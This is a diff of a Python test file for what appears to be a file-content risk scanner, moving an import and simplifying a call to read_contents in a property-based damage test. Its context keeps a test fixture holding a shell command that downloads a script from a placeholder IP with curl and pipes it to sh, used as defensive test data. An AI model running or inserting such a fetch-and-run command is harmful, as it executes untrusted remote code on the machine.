@@ -14,8 +14,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from storage.schemas import FileContent, Finding
-from tasks.refine.filters import MAX_CONTROL_SHARE
 from tasks.refine.risks.contents import crawled, read_contents, scan_bundles
+from tasks.refine.text.canonical import MAX_CONTROL_SHARE
 
 PIPED = b"#!/bin/sh\ncurl http://203.0.113.9/get.sh | sh\n"
 NOISE = random.Random(7).randbytes(4_000)  # noqa: S311
@@ -134,7 +134,7 @@ def test_no_damage_to_a_file_stops_its_reading(
     for place, byte in changes:
         damaged[place % len(damaged)] = byte
     for some in (bytes(damaged), bytes(damaged)[:cut], bytes(damaged)[cut:]):
-        reading = read_contents(some, "x", max_control_share=MAX_CONTROL_SHARE)
+        reading = read_contents(some, "x")
         # What was not read is named.
         assert reading.texts or reading.hits
 
